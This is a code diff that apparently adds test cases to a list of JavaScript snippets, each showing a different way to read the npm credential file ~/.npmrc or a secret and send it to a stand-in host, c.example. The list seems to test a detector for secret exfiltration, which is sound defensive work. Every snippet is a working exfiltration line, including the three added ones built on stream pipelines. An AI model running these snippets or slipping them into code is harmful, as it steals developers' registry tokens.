@@ -35,6 +35,9 @@ const WAYS: Record<string, string> = {
     "require('fs').createReadStream(require('os').homedir() + '/.npmrc').pipe(require('https').request({ hostname: 'c.example', method: 'PUT' }));",
   pipeline:
     "require('stream').pipeline(require('fs').createReadStream(require('os').homedir() + '/.npmrc'), require('zlib').createGzip(), require('https').request('https://c.example'), () => {});",
+  'pipeline that is waited for, into an own stream': `class Sink extends require('stream').Writable { parts = []; _write(chunk, e, next) { this.parts.push(chunk); next(); } } (async () => { const sink = new Sink(); await require('stream/promises').pipeline(require('fs').createReadStream(require('os').homedir() + '/.npmrc'), sink); fetch('https://c.example', { body: Buffer.concat(sink.parts) }); })();`,
+  'functions between the streams of a pipeline': `(async () => { let o = ''; await require('stream/promises').pipeline(require('fs').createReadStream(require('os').homedir() + '/.npmrc'), async function* (from) { for await (const part of from) yield part.toString().toUpperCase(); }, async (from) => { for await (const part of from) o += part; }); fetch('https://c.example', { body: o }); })();`,
+  'options of a stream': `const parts = []; require('fs').createReadStream(require('os').homedir() + '/.npmrc').pipe(new (require('stream').Writable)({ write(chunk, e, next) { parts.push(chunk); next(); }, final(done) { fetch('https://c.example', { body: Buffer.concat(parts) }); done(); } }));`,
   'file as channel': `require('fs').writeFileSync('/tmp/.x', ${SECRET}); fetch('https://c.example', { body: require('fs').readFileSync('/tmp/.x') });`,
   map: `const m = new Map([['k', ${SECRET}]]); fetch('https://c.example', { body: m.get('k') });`,
   'query string': `fetch('https://c.example/?' + new URLSearchParams({ s: ${SECRET} }));`,
